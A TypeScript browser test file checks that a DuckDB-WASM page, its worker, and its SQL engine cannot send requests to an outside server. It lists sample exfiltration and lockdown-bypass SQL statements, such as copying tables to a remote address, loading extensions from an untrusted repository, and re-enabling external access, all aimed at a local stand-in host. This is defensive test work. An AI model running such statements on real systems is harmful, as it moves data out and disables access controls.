import { afterAll, beforeAll, expect, it } from 'vitest';
import { listen, type Server } from '../support/browser.ts';
import { harnessSite } from './harness/site.ts';

const site = harnessSite();
const { onPage } = site;

/** Somebody else's server, to which nothing may ever be sent. */
let stranger: Server;

beforeAll(async () => {
  stranger = await listen((_, response) =>
    response.writeHead(200, { 'access-control-allow-origin': '*' }).end('a\n1\n'),
  );
});

afterAll(() => stranger?.close());

/** `SET` and `RESET` have their own refusal; the others must not be tried and then fail. */
const off = /disabled|not allowed|Cannot (?:access|change)|locked|Permission Error|is not in the catalog/i;

it.each([
  ['by the policy and its own settings', true],
  ['by its own settings alone', false],
])('keeps every statement from reaching another server, %s', async (_, policy) => {
  await onPage(async ({ page, requested }) => {
    if (!policy) {
      await page.route('**/where/', async (route) => {
        const response = await route.fetch();
        await route.fulfill({
          response,
          body: (await response.text()).replace(/<meta http-equiv[^>]*>/, ''),
        });
      });
      await page.reload();
    }
    await page.evaluate(() => window.harness.start());
    const address = `${stranger.url}x.csv`;
    for (const statement of [
      `CREATE TABLE stolen AS SELECT * FROM read_csv('${address}')`,
      `SELECT * FROM '${address}'`,
      `COPY (SELECT 1) TO '${address}'`,
      `ATTACH '${stranger.url}x.db'`,
      'LOAD httpfs',
      `LOAD '${stranger.url}x.duckdb_extension.wasm'`,
      `INSTALL httpfs FROM '${stranger.url}'; LOAD httpfs`,
      "SELECT TIMESTAMP '2024-03-10 02:30:00' AT TIME ZONE 'Asia/Shanghai'",
      "SELECT * FROM read_parquet('/in/x.parquet')",
      `SET custom_extension_repository='${stranger.url}'`,
      'SET enable_external_access=true',
      "SET allowed_directories=['http://']",
      'RESET lock_configuration',
    ]) {
      const outcome = await page.evaluate(
        (s) => window.harness.outcome(window.harness.engine.run([s])),
        statement,
      );
      expect([statement, outcome]).toEqual([
        statement,
        { fault: 'sql', message: expect.stringMatching(off) as string },
      ]);
    }
    expect(await page.evaluate(() => window.harness.row('SELECT 1::BIGINT AS v'))).toEqual([1]);
    expect(requested.filter((url) => !url.startsWith(site.server.url))).toEqual([]);
    expect(stranger.requests).toEqual([]);
  });
});

it('keeps the page itself from reaching another server', async () => {
  await onPage(async ({ page }) => {
    const fetched = await page.evaluate((url) => fetch(url).then(() => 'answered', () => 'blocked'), stranger.url); // prettier-ignore
    expect(fetched).toBe('blocked');
    expect(await page.evaluate(() => window.harness.violations)).toEqual([stranger.url]);
    expect(stranger.requests).toEqual([]);
  });
});

it('holds the worker to the policy: a request from inside it is not sent either', async () => {
  await onPage(async ({ page }) => {
    await page.evaluate(() => window.harness.start());
    const [worker] = page.workers();
    const fetched = await worker!.evaluate((url) => fetch(url).then(() => 'answered', () => 'blocked'), stranger.url); // prettier-ignore
    expect(fetched).toBe('blocked');
    expect(stranger.requests).toEqual([]);
  });
});
